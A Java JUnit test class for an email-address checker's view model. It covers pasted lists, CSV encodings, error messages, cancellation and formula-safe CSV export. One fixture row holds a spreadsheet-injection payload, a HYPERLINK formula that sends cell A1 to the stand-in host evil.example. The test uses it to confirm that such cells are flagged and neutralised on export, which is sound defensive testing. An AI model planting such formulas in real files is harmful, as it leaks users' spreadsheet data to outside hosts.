package dev.mailroom.app.validation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailroom.app.common.BackgroundRunner;
import dev.mailroom.app.common.SynchronousRunner;
import dev.mailroom.app.session.Services;
import dev.mailroom.mailer.dns.TestDnsServer;
import dev.mailroom.model.access.AgencySetup;
import dev.mailroom.model.common.Actor;
import dev.mailroom.model.domains.dns.ResolverSettings;
import dev.mailroom.model.tenants.OwnershipModel;
import dev.mailroom.model.tenants.PartnerAccessPattern;
import dev.mailroom.model.tenants.Tenant;
import dev.mailroom.model.tenants.TenantDraft;
import dev.mailroom.model.validation.AddressCheckService;
import dev.mailroom.model.validation.AddressVerdict;
import dev.mailroom.model.validation.Verdict;
import dev.mailroom.persistence.store.MutableClock;
import dev.mailroom.persistence.store.Store;
import dev.mailroom.persistence.store.StoreConfig;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.xbill.DNS.Type;

/** The Check addresses page's view model on a real H2 store and the DNS responder, without a window. */
class AddressCheckViewModelTest {
    @TempDir
    Path dir;

    private TestDnsServer dns;
    private Store store;
    private SynchronousRunner runner = BackgroundRunner.synchronous();
    private AddressCheckViewModel vm;
    private Services s;
    private Actor owner;

    @BeforeEach
    void open() {
        dns = TestDnsServer.start()
                .add("acme.io", Type.MX, "10 mx.acme.io.")
                .add("nomail.io", Type.MX, "0 .")
                .fail("broken.io", TestDnsServer.Failure.SERVFAIL);
        store = Store.open(StoreConfig.h2(dir.resolve("store")));
        s = Services.create(
                store,
                new MutableClock(Instant.parse("2026-11-02T09:00:00Z")),
                ResolverSettings.parse(dns.address(), Duration.ofMillis(300), 1));
        char[] pw = "owner-password".toCharArray();
        owner = s.firstRun()
                .setUp(new AgencySetup("Brightwave", "Ana Owner", "ana@brightwave.example", pw, pw))
                .actor();
        Tenant acme = s.tenants()
                .create(
                        owner,
                        new TenantDraft(
                                "Acme",
                                "#2563EB",
                                "",
                                "",
                                OwnershipModel.AGENCY_OWNED,
                                PartnerAccessPattern.AGENCY_MANAGED));
        vm = new AddressCheckViewModel(s.addressChecks(), runner, owner, dir.resolve("scratch"));
        vm.tenant().set(acme.id());
    }

    @AfterEach
    void close() {
        store.close();
        dns.close();
    }

    private List<String> shownAddresses() {
        return vm.shown().stream().map(AddressVerdict::shown).toList();
    }

    @Test
    void aPastedMixedListGetsVerdictsAndFilters() {
        vm.pasted()
                .set("jane@acme.io\ninfo@acme.io, bob@nomail.io; carl@broken.io\n\nnot-an-address\n  dee@gmial.com ");
        vm.checkPasted();
        assertThat(vm.shown()).hasSize(6);
        assertThat(vm.summary().get()).startsWith("6 addresses checked over");
        assertThat(vm.source().get()).isEqualTo("6 pasted addresses");
        vm.filter().set(Verdict.UNDELIVERABLE);
        assertThat(shownAddresses()).containsExactly("bob@nomail.io", "not-an-address", "dee@gmial.com");
        vm.filter().set(Verdict.RISKY);
        assertThat(shownAddresses()).containsExactly("info@acme.io");
        vm.filter().set(Verdict.UNKNOWN);
        assertThat(vm.shown())
                .singleElement()
                .extracting(AddressVerdict::reasonText)
                .asString()
                .contains("SERVFAIL");
        vm.filter().set(null);
        assertThat(vm.shown()).hasSize(6);
    }

    @Test
    void nothingPastedIsSaidNextToTheField() {
        vm.pasted().set(" \n , ");
        vm.checkPasted();
        assertThat(vm.errors().get("input")).isEqualTo("Paste at least one address, one a line.");
        assertThat(vm.shown()).isEmpty();
    }

    @Test
    void aWindowsCsvWithAnEmailAddressHeaderIsReadAndTheExportIsFormulaSafe() throws Exception {
        Path csv = dir.resolve("excel.csv");
        Files.write(
                csv,
                ("Name,E-Mail Address,City\r\n"
                                + "José,jose@acme.io,Málaga\r\n"
                                + "Evil,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@evil.example\",X\r\n"
                                + "Plus,+1@acme.io,Y\r\n"
                                + "Long," + "x".repeat(10_000_000) + "@acme.io,Z\r\n")
                        .getBytes(Charset.forName("windows-1252")));
        vm.checkFile(csv);
        assertThat(vm.errors().get("input")).isEmpty();
        assertThat(vm.source().get()).isEqualTo("excel.csv — Windows-1252, “E-Mail Address”");
        assertThat(shownAddresses().get(0)).isEqualTo("jose@acme.io");
        assertThat(vm.shown().get(1).verdict()).isEqualTo(Verdict.UNDELIVERABLE);
        assertThat(vm.shown().get(1).reasonText()).contains("spreadsheet formula");
        assertThat(vm.shown().get(3).reasonText()).contains("10000008 characters long");

        Path out = dir.resolve("out.csv");
        vm.exportTo(out);
        List<CSVRecord> rows = CSVFormat.DEFAULT
                .parse(Files.newBufferedReader(out, StandardCharsets.UTF_8))
                .getRecords();
        assertThat(rows.get(0).toList()).containsExactly("input", "address", "verdict", "reason", "suggestion");
        assertThat(rows).hasSize(5);
        assertThat(rows.get(1).toList()).startsWith("jose@acme.io", "jose@acme.io", "deliverable");
        assertThat(rows.get(2).get(0)).startsWith("'=HYPERLINK(");
        assertThat(rows.get(3).get(0)).isEqualTo("'+1@acme.io");
        for (CSVRecord r : rows) {
            for (String cell : r) {
                assertThat(cell)
                        .as("no cell a spreadsheet runs")
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("@");
            }
        }
    }

    @Test
    void utf16WithBomAndPlainTextWithoutHeaderAreRead() throws Exception {
        Path utf16 = dir.resolve("utf16.csv");
        byte[] body = "email\r\nzoë@acme.io\r\n".getBytes(StandardCharsets.UTF_16LE);
        byte[] withBom = new byte[body.length + 2];
        withBom[0] = (byte) 0xFF;
        withBom[1] = (byte) 0xFE;
        System.arraycopy(body, 0, withBom, 2, body.length);
        Files.write(utf16, withBom);
        vm.checkFile(utf16);
        assertThat(vm.source().get()).isEqualTo("utf16.csv — UTF-16 (byte-order mark), “email”");
        assertThat(shownAddresses()).containsExactly("zoë@acme.io");

        Path plain = dir.resolve("plain.txt");
        Files.writeString(plain, "jane@acme.io\nbob@acme.io\n");
        vm.checkFile(plain);
        assertThat(vm.source().get()).isEqualTo("plain.txt — UTF-8, column 1 (no header)");
        assertThat(vm.shown()).hasSize(2);
    }

    @Test
    void badFilesAreSaidInWords() throws Exception {
        Path empty = dir.resolve("empty.csv");
        Files.write(empty, new byte[0]);
        vm.checkFile(empty);
        assertThat(vm.errors().get("input")).isEqualTo("The file is empty.");
        Path noColumn = dir.resolve("names.csv");
        Files.writeString(noColumn, "name,city\nJane,Paris\n");
        vm.checkFile(noColumn);
        assertThat(vm.errors().get("input")).startsWith("No column of addresses found");
        vm.checkFile(dir.resolve("missing.csv"));
        assertThat(vm.errors().get("input")).isEqualTo("Could not read the list (no such file).");
        assertThat(runner.reported()).isEmpty();
    }

    @Test
    void cancelKeepsWhatWasCheckedAndSaysSo() {
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < AddressCheckService.CHUNK * 3; i++) {
            many.append("user").append(i).append("@acme.io\n");
        }
        vm.pasted().set(many.toString());
        runner.cancelAfterUpdates(1);
        vm.checkPasted();
        assertThat(vm.summary().get()).startsWith("Cancelled after 2,000 addresses checked");
        assertThat(vm.shown()).hasSize(AddressCheckService.CHUNK);
    }
}
